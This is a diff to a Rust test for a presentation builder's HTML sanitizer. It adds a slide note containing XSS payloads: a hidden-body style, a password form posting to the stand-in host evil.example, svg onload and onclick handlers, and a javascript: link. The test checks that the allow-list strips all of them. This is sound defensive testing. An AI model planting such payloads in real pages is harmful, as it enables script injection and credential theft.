@@ -32,7 +32,8 @@ async fn slides_are_built_reordered_and_shown_in_the_room() {
             json!({"name": "Built in the backoffice", "pages": [
                 {"kind": "productListing", "title": "Picked", "productIds": [products[0], products[1]],
                  "notes": {"en-GB": "Say hello", "de-DE": "<p><strong>Begrüßen</strong> &amp; <a href=\"https://example.com/\">zeigen</a></p>"}},
-                {"kind": "productDetail", "title": "The star", "productId": products[2]},
+                {"kind": "productDetail", "title": "The star", "productId": products[2],
+                 "notes": {"en-GB": "<style>body{display:none}</style><form action=\"https://evil.example\"><input name=\"password\"></form><svg onload=\"alert(1)\"></svg><p style=\"position:fixed\" onclick=\"alert(2)\">Smile</p><a href=\"javascript:alert(3)\">x</a>"}},
                 {"kind": "cms", "title": "Our story", "cmsPageId": layout},
             ]}),
         )
@@ -43,9 +44,14 @@ async fn slides_are_built_reordered_and_shown_in_the_room() {
     let pages = read["data"]["pages"].clone();
     assert_eq!(kinds(&pages), ["productListing", "productDetail", "cms"], "{pages}");
     assert_eq!(pages[0]["productIds"], json!([products[0], products[1]]));
-    // Plain text is kept as a paragraph; HTML (the backoffice's rich text) as it is.
+    // Plain text is kept as a paragraph; HTML (the backoffice's rich text) as the
+    // allow-list leaves it (#29 item 7): links get rel, styles, forms, SVG and handlers go.
     assert_eq!(pages[0]["notes"][&en], "<p>Say hello</p>");
-    assert_eq!(pages[0]["notes"][&de], "<p><strong>Begrüßen</strong> &amp; <a href=\"https://example.com/\">zeigen</a></p>");
+    assert_eq!(
+        pages[0]["notes"][&de],
+        "<p><strong>Begrüßen</strong> &amp; <a href=\"https://example.com/\" rel=\"noopener noreferrer\">zeigen</a></p>"
+    );
+    assert_eq!(pages[1]["notes"][&en], "<p>Smile</p><a rel=\"noopener noreferrer\">x</a>");
     assert_eq!(pages[1]["productId"], products[2].as_str());
     assert_eq!(pages[2]["cmsPageId"], layout.as_str());
 
